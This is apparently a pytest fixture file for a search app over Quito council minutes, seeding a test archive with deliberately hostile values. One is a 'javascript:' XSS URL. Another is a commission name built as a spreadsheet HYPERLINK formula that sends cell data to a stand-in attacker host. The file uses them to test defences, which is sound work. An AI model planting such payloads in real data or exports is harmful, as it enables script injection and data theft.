"""A small real archive for app tests: a catalogue (with hostile values a portal could publish) and an
embedded index of a few dozen documents, built once per session; apps over it with chosen settings."""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

import pytest

from archive import Catalogue, open_catalogue
from concejo.config import Settings, load_settings
from index_config.entries import IndexableDocument
from search_app import create_app
from search_app.backends.embedded import EmbeddedBackend

from .openapi_check import checking_clients, summary

HOSTILE_URL = "javascript:alert(document.domain)"
FORMULA_COMMISSION = '=HYPERLINK("http://attacker.example/?"&A1,"ver")'
SENTENCES = (
    "El concejo aprobó el presupuesto participativo para los barrios del sur.",
    "Se trató el plan de uso y gestión del suelo en segundo debate.",
    "La comisión de movilidad revisó el transporte público y el tránsito.",
    "Agua potable y alcantarillado: informe de la empresa pública.",
    "Votación: la moción es aprobada por unanimidad de los concejales.",
    'Texto con "comillas", <etiquetas> & ampersands copiado del portal.',
    "Rendición de cuentas del alcalde y participación ciudadana.",
    "Ordenanza metropolitana sobre residuos, reciclaje y ambiente.",
)


@dataclass
class Archive:
    settings: Settings
    catalogue: Catalogue
    hostile_document: int  # published under a javascript: URL
    formula_session: int  # of a commission whose name is a spreadsheet formula
    failed_document: int  # failed with a reason naming a server path

    def app(self, **settings):
        return create_app({"TESTING": True}, settings=replace(self.settings, **settings))

    def client(self, **settings):
        return self.app(**settings).test_client()


def _corpus(rng: random.Random, first_id: int, count: int) -> list[IndexableDocument]:
    documents = []
    for document_id in range(first_id, first_id + count):
        year = rng.randint(2019, 2025)
        pages = tuple(" ".join(rng.sample(SENTENCES, 4)) for _ in range(rng.randint(1, 4)))
        documents.append(IndexableDocument(
            document_id=document_id, title=f"Acta de la sesión ordinaria {document_id}",
            date=f"{year}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
            session_type=rng.choice(["ordinaria", "extraordinaria"]), session_number=document_id,
            commission=None, commission_name=None, document_type="acta", council="quito",
            identifiers=(f"CDMQ-{document_id:03d}-{year}",), url=f"/documentos/{document_id}.pdf", pages=pages,
        ))
    return documents


@pytest.fixture(scope="session")
def archive(tmp_path_factory) -> Archive:
    settings = load_settings(environ={}, data_dir=tmp_path_factory.mktemp("app-archive"), ocr=False)
    catalogue = open_catalogue(settings.catalogue_url)
    council = catalogue.ensure_council("quito", "Concejo Metropolitano de Quito")
    commission = catalogue.upsert_commission(council, "formula", FORMULA_COMMISSION, [], None,
                                             "http://127.0.0.1:8800/comisiones/formula")
    session = catalogue.upsert_session(council, "s-1", session_type="ordinaria", date="2024-03-05",
                                       title="Sesión ordinaria", number=1, commission_id=commission,
                                       source_url=HOSTILE_URL)
    hostile = catalogue.list_document(council, "hostile", session_id=session, kind="acta", title="Acta hostil",
                                      url=HOSTILE_URL)
    failed = catalogue.list_document(council, "failed", session_id=session, kind="acta", title="Acta fallida",
                                     url="http://127.0.0.1:8800/actas/fallida.pdf")
    catalogue.record_fetch_failure(
        "http://127.0.0.1:8800/actas/fallida.pdf",
        "not a PDF: /srv/concejo/data/httpcache/ab/cdef/response_body starts with b'<html>\\x00\\x89'")
    documents = [
        IndexableDocument(
            document_id=hostile, title="Acta hostil", date="2024-03-05", session_type="ordinaria",
            session_number=1, commission="formula", commission_name=FORMULA_COMMISSION, document_type="acta",
            council="quito", identifiers=(), url=f"/documentos/{hostile}.pdf",
            pages=("Presupuesto participativo y agua potable.",),
        ),
        *_corpus(random.Random(8), first_id=100, count=40),
    ]
    backend = EmbeddedBackend(settings.index_dir)
    backend.index(documents)
    backend.close()
    yield Archive(settings, catalogue, hostile, session, failed)
    catalogue.close()


@pytest.fixture()
def client(archive):
    return archive.client()


@pytest.fixture(scope="session", autouse=True)
def api_contract():
    """Every response to /api/ and the feed in these tests is checked against the OpenAPI description."""
    with checking_clients():
        yield


def pytest_terminal_summary(terminalreporter):
    terminalreporter.write_line(summary())
